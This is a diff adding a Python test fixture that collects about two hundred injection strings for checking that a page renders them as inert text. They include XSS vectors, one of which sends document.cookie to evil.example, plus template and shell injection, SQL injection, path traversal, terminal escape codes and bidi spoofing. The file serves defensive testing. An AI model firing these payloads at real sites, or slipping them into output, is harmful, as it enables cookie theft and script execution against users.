@@ -1,0 +1,186 @@
+"""Two hundred texts that a page must show as text: HTML, scripts, styles, terminal codes, directions, templates.
+
+What runs sets `window.owned`, opens a dialog, or calls evil.example, so that a test notices it.
+"""
+
+from itertools import product
+
+OWNED = "window.owned=1;alert(1);fetch('https://evil.example/'+document.cookie)"
+EVIL = "https://evil.example/x"
+
+HTML = [
+    f"<script>{OWNED}</script>",
+    f"<ScRiPt>{OWNED}</ScRiPt>",
+    f"<script src={EVIL}.js></script>",
+    f"<script type=module>import('{EVIL}.js')</script>",
+    f"</script><script>{OWNED}</script>",
+    f"</title><script>{OWNED}</script>",
+    f"</textarea><script>{OWNED}</script>",
+    f"--><script>{OWNED}</script><!--",
+    f"]]><script>{OWNED}</script>",
+    f"<<script>{OWNED}//<</script>",
+    f"<scr<script>ipt>{OWNED}</script>",
+    f"%3Cscript%3E{OWNED}%3C/script%3E",
+    f"&lt;script&gt;{OWNED}&lt;/script&gt;",
+    f"&#60;script&#62;{OWNED}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
+    f"+ADw-script+AD4-{OWNED}+ADw-/script+AD4-",
+    f"<iframe src={EVIL}></iframe>",
+    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
+    f"<object data={EVIL}></object>",
+    f"<embed src={EVIL}>",
+    f"<base href={EVIL}/>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",  # noqa: F541
+    f"<link rel=stylesheet href={EVIL}.css>",
+    f"<link rel=prefetch href={EVIL}>",
+    f"<form action={EVIL}><input name=token autofocus><button>Sign in</button></form>",
+    f"<a href={EVIL} ping={EVIL}>a link</a>",
+    f"<img src={EVIL}.png>",
+    f"<img srcset='{EVIL}.png 2x'>",
+    f"<video src={EVIL}.mp4 autoplay></video>",
+    f"<audio src={EVIL}.mp3 autoplay></audio>",
+    f"<template><script>{OWNED}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={OWNED}>'>",
+    "<plaintext>",
+    "<!--",
+    "<![CDATA[",
+    "<b>bold</b><h1>large</h1><marquee>moving</marquee>",
+    "<table><tr><td>cell</table></div></main></body></html>",
+    "<input type=password autofocus><dialog open>Your token, please</dialog>",
+]
+TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "div")
+HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
+EVENTS = [f"<{tag} {handler}={OWNED}>" for tag, handler in product(TAGS, HANDLERS)]
+QUOTED = [f"{quote}{handler}={OWNED} x={quote}" for quote, handler in product(('" ', "' ", "` ", ">"), HANDLERS[:3])]
+SVG = [
+    f"<svg><script>{OWNED}</script></svg>",
+    f"<svg><script href={EVIL}.js /></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{OWNED}</script></svg>#x'/></svg>",
+    f"<svg><a href='javascript:{OWNED}'><text>click</text></a></svg>",
+    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
+    f"<svg><set attributeName=href to=javascript:{OWNED}>",
+    f"<svg><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
+    f"<svg><image href={EVIL}.png /></svg>",
+]
+URLS = [
+    f"javascript:{OWNED}",
+    f"JaVaScRiPt:{OWNED}",
+    f"java\tscript:{OWNED}",
+    f"java\nscript:{OWNED}",
+    f"\x01javascript:{OWNED}",
+    f"javascript&colon;{OWNED}",
+    f"javascript://%0a{OWNED}",
+    f"data:text/html,<script>{OWNED}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    f"vbscript:{OWNED}",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "blob:https://evil.example/1",
+    "file:///etc/passwd",
+    f"<a href='javascript:{OWNED}'>a link</a>",
+    f"[a link](javascript:{OWNED})",
+    f"![an image]({EVIL}.png)",
+    "#/runs?run=<img src=x onerror=alert(1)>",
+    "?run=../../etc/passwd",
+    "%00%0d%0aSet-Cookie: owned=1",
+]
+STYLES = [
+    f"<style>@import '{EVIL}.css';</style>",
+    f"<style>* {{ background: url({EVIL}.png) }}</style>",
+    "<style>body { display: none }</style>",
+    f"<div style='background:url({EVIL}.png)'>",
+    "<div style='position:fixed;inset:0;background:red;z-index:9999'>",
+    f"'; background: url({EVIL}.png); x: '",
+    "expression(alert(1))",
+    f"</style><script>{OWNED}</script>",
+    f"@font-face {{ font-family: x; src: url({EVIL}.woff) }}",
+    "color:red;}*{display:none",
+]
+TEMPLATES = [
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{7*7}}",
+    "{% for x in ().__class__.__bases__[0].__subclasses__() %}{{x}}{% endfor %}",
+    "{{ config.__class__.__init__.__globals__ }}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "${{7*7}}",
+    "`${window.owned=1}`",
+    "{0.__class__}",
+    "%s%s%s%n",
+    "$(touch /tmp/owned)",
+    "`touch /tmp/owned`",
+    "; touch /tmp/owned",
+    "| touch /tmp/owned",
+    "'; DROP TABLE runs; --",
+    "__proto__",
+    "constructor",
+    "lit$12345$",
+    "<!--?lit$12345$-->",
+    "<?lit$12345$>",
+    "=HYPERLINK(1)",
+]
+TERMINAL = [
+    "\x1b[31mred\x1b[0m",
+    "\x1b[2J\x1b[H",
+    "\x1b]0;a title\x07",
+    f"\x1b]8;;{EVIL}\x07a link\x1b]8;;\x07",
+    "\x1b]52;c;b3duZWQ=\x07",
+    "\x9b31mred",
+    "\x08\x08\x08gone",
+    "over\rwritten",
+    "\x00null\x00",
+    "bell\x07",
+    "\x7f",
+    "\x0b\x0c",
+]
+DIRECTIONS = [
+    "\u202egnp.exe\u202c",
+    "\u202dleft\u202c",
+    "\u2066isolated\u2069",
+    "\u2067right\u2069",
+    "\u200f\u200e",
+    "\u061c",
+    "مرحبا بالعالم",
+    "שלום עולם",
+    "abc \u05d0\u05d1\u05d2 def",
+    "zero\u200bwidth",
+    "\ufeffmark",
+    "soft\u00adhyphen",
+    "\u2028\u2029",
+    "\U000e0041\U000e0042tags",
+]
+CHARACTERS = [
+    "👩‍👩‍👧‍👦",
+    "👨🏽‍🚀",
+    "🏳️‍🌈",
+    "🇩🇪🇫🇷",
+    "e\u0301\u0302\u0303\u0304",
+    "Z\u0351\u036b\u0343\u036a\u0302\u034aa\u0334l\u0337g\u0337o\u0337",
+    "\u0301alone",
+    "水は流れる",
+    "𝒻𝓁ℯ𝒹ℊℯ",
+    "ﷺ" * 5,
+    "\ufffd\ufffe\uffff",
+    "\U0010ffff",
+    "ﬁ ﬂ ½ №",
+    "\u3164\u115f",
+]
+LONG = ["x" * 2000, "<b>" * 500, "🦆" * 300, "\n" * 200, " " * 500, "a " * 1000]
+
+PAYLOADS = [
+    *HTML,
+    *EVENTS,
+    *QUOTED,
+    *SVG,
+    *URLS,
+    *STYLES,
+    *TEMPLATES,
+    *TERMINAL,
+    *DIRECTIONS,
+    *CHARACTERS,
+    *LONG,
+]
+FILE_NAMES = [each for each in PAYLOADS if "/" not in each and "\0" not in each and len(each.encode()) < 200]
